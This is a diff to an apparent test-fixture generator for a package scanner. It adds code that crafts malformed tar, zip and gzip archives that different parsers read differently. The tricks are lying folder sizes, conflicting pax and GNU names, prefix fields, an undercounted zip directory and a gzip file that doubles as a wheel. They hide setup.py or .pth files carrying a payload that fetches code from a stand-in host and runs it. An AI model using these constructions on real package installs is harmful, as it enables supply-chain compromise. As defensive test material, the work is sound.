@@ -220,6 +220,77 @@ STAGE2 = b'import urllib.request\nexec(urllib.request.urlopen("http://evil.inval
 PKG_INFO = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
 
 
+# ---- byte-level constructions: headers the writers above would never produce ----------------
+
+def _pad(b: bytes) -> bytes:
+    return b + b"\0" * (-len(b) % 512)
+
+
+def raw_member(name: str, data: bytes = b"", typ: bytes = tarfile.REGTYPE, size: int | None = None,
+               linkname: str = "", fmt: int = tarfile.USTAR_FORMAT) -> bytes:
+    """One header (with `size` possibly lying about the data that follows) and its data."""
+    info = tarfile.TarInfo(name)
+    info.type = typ
+    info.size = len(data) if size is None else size
+    info.mode = 0o644
+    info.linkname = linkname
+    info.mtime = 1_700_000_000
+    return info.tobuf(format=fmt) + _pad(data)
+
+
+def with_checksum(header: bytearray) -> bytes:
+    header[148:156] = b"        "
+    header[148:156] = b"%06o\0 " % sum(header[:512])
+    return bytes(header)
+
+
+def data_in_a_folder(root: str, payload: bytes, typ: bytes = tarfile.DIRTYPE) -> bytes:
+    """A folder (or link) header whose size covers a whole member: tarfile reads that member,
+    the tar crate skips it as the folder's data."""
+    hidden = raw_member(f"{root}/setup.py", payload)
+    link = "PKG-INFO" if typ == tarfile.SYMTYPE else ""
+    return raw_member(f"{root}/docs", typ=typ, size=len(hidden), linkname=link) + hidden
+
+
+def pax_and_gnu_names(root: str, payload: bytes) -> bytes:
+    """A pax `path` and a GNU long name for one member: tarfile takes the pax path."""
+    pax = tarfile.TarInfo._create_pax_generic_header({"path": f"{root}/setup.py"}, tarfile.XHDTYPE, "utf-8")
+    gnu = tarfile.TarInfo._create_gnu_long_header(f"{root}/docs/" + "n" * 120 + ".txt", tarfile.GNUTYPE_LONGNAME, "utf-8", "strict")
+    return pax + gnu + raw_member(f"{root}/short.txt", payload, fmt=tarfile.GNU_FORMAT)
+
+
+def gnu_prefix(root: str, payload: bytes) -> bytes:
+    """A GNU header with bytes in the ustar prefix field: tarfile prepends them to the name."""
+    h = bytearray(raw_member(f"{root}/x.py", payload, fmt=tarfile.GNU_FORMAT))
+    h[345:345 + len(f"{root}/hidden")] = f"{root}/hidden".encode()
+    return with_checksum(h[:512]) + bytes(h[512:])
+
+
+def undercounted_zip(members: list[tuple[str, bytes]]) -> bytes:
+    """A zip whose end record counts one member less than its central directory holds: the zip
+    crate stops at the count, zipfile reads the whole directory."""
+    d = bytearray(zip_bytes(members))
+    e = d.rfind(b"PK\x05\x06")
+    n = struct.unpack_from("<H", d, e + 10)[0]
+    struct.pack_into("<HH", d, e + 8, n - 1, n - 1)
+    return bytes(d)
+
+
+def gzip_carrying_a_wheel(wheel: bytes, root: str) -> bytes:
+    """A `.tar.gz` whose member is a whole wheel, stored uncompressed and placed so that the
+    wheel's end record is also the file's: zipfile opens the wheel, a gzip reader the tar."""
+    tar = raw_member(f"{root}/blob.dat", wheel) + b"\0" * 1024
+    out = bytearray([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF])
+    chunks = [tar[i:i + 65535] for i in range(0, len(tar), 65535)]
+    for i, c in enumerate(chunks):
+        out += bytes([1 if i == len(chunks) - 1 else 0]) + struct.pack("<HH", len(c), 0xFFFF ^ len(c)) + c
+    out += struct.pack("<II", zlib.crc32(tar), len(tar) & 0xFFFFFFFF)
+    # Extend the wheel's comment over what follows it (tar padding, gzip trailer).
+    at = out.rfind(b"PK\x05\x06")
+    struct.pack_into("<H", out, at + 20, len(out) - (at + 22))
+    return bytes(out)
+
+
 def hostile_archives() -> dict[str, bytes]:
     """Each attack of the hostile-input review, and neighbours of it, by a descriptive name
     (the name's suffix is the archive format)."""
@@ -266,8 +337,15 @@ def hostile_archives() -> dict[str, bytes]:
     out["file-below-file.tar.gz"] = gz(tar_bytes(base + [(f"{r}/a", "file", b"a"), (f"{r}/a/b.py", "file", b"b")]))
     out["bzip2.tar.bz2"] = _bz2(tar_bytes(base + [(f"{r}/setup.py", "file", STAGE2)]))
     out["plain.tar"] = tar_bytes(base + [(f"{r}/setup.py", "file", STAGE2)])
+    head = raw_member(f"{r}/PKG-INFO", PKG_INFO) + raw_member(f"{r}/setup.py", b"harmless\n")
+    out["folder-with-data-hides-setup.tar.gz"] = gz(head + data_in_a_folder(r, STAGE2) + b"\0" * 1024)
+    out["symlink-with-data-hides-setup.tar.gz"] = gz(head + data_in_a_folder(r, STAGE2, tarfile.SYMTYPE) + b"\0" * 1024)
+    out["pax-path-and-gnu-long-name.tar.gz"] = gz(raw_member(f"{r}/PKG-INFO", PKG_INFO) + pax_and_gnu_names(r, STAGE2) + b"\0" * 1024)
+    out["gnu-prefix-field.tar.gz"] = gz(raw_member(f"{r}/PKG-INFO", PKG_INFO) + gnu_prefix(r, b"print(1)\n") + b"\0" * 1024)
     w = "demo-1.0.dist-info"
     wbase = [(f"{w}/METADATA", PKG_INFO), (f"{w}/WHEEL", b"Wheel-Version: 1.0\n"), (f"{w}/RECORD", b"")]
+    out["zip-end-record-undercounts.whl"] = undercounted_zip(wbase + [("demo/__init__.py", b""), ("zcount_init.pth", STAGE2)])
+    out["gzip-carrying-a-wheel.whl"] = gzip_carrying_a_wheel(zip_bytes(wbase + [("evil.pth", STAGE2)]), r)
     out["plain.whl"] = zip_bytes(wbase + [("demo/__init__.py", b"")])
     out["zip-local-header-pth.whl"] = zip_bytes(wbase + [("tests/helper_data_0001.py", STAGE2)],
                                                 local_names={"tests/helper_data_0001.py": "zzzzzzzzzzzz_hidden00.pth"})
@@ -328,6 +406,8 @@ class Generator:
                 members.append((name, kind, self.rng.choice(self.TARGETS)))
             else:
                 members.append((name, kind, self.rng.choice([m[0] for m in members])))
+        if self.rng.random() < 0.2:
+            return "demo-1.0.tar.gz", gz(self.raw_tar(members))
         roll = self.rng.random()
         if roll < 0.15:
             cut = self.rng.randrange(1, len(members) + 1)
@@ -340,6 +420,32 @@ class Generator:
         else:
             data = gz(tar_bytes(members, fmt=self.rng.choice([tarfile.GNU_FORMAT, tarfile.PAX_FORMAT, tarfile.USTAR_FORMAT])))
         return "demo-1.0.tar.gz", data
+
+    def raw_tar(self, members: list[tuple]) -> bytes:
+        """The members written header by header, some with a lie in them: a size on a folder or
+        link, a pax record or GNU long name in front, a prefix field, a wrong pax size."""
+        out = b""
+        for name, kind, payload in members:
+            roll = self.rng.random()
+            typ = {"file": tarfile.REGTYPE, "dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE}[kind]
+            data = payload if kind == "file" else b""
+            link = payload if kind in ("symlink", "hardlink") else ""
+            if roll < 0.1 and kind != "file":
+                inner = raw_member(self.name(), self.rng.choice([STAGE2, b"x"]))
+                out += raw_member(name, typ=typ, size=len(inner), linkname=link) + inner
+                continue
+            if roll < 0.2:
+                keys = {self.rng.choice(["path", "linkpath", "size", "comment"]): self.rng.choice([self.name(), "7", "0"])}
+                out += tarfile.TarInfo._create_pax_generic_header(keys, tarfile.XHDTYPE, "utf-8")
+            if roll < 0.3 and roll >= 0.2:
+                out += tarfile.TarInfo._create_gnu_long_header(self.name(), tarfile.GNUTYPE_LONGNAME, "utf-8", "strict")
+            member = raw_member(name, data, typ=typ, linkname=link, fmt=self.rng.choice([tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT]))
+            if 0.3 <= roll < 0.35:
+                h = bytearray(member[:512])
+                h[345:348] = b"pre"
+                member = with_checksum(h) + member[512:]
+            out += member
+        return out + b"\0" * 1024
 
     def zip(self) -> tuple[str, bytes]:
         w = "demo-1.0.dist-info"
@@ -359,6 +465,8 @@ class Generator:
         import warnings
         with warnings.catch_warnings():
             warnings.simplefilter("ignore")
+            if self.rng.random() < 0.1:
+                return "demo-1.0-py3-none-any.whl", undercounted_zip(members)
             try:
                 return "demo-1.0-py3-none-any.whl", zip_bytes(members, local_names=local, unicode_paths=uni)
             except (ValueError, AssertionError):
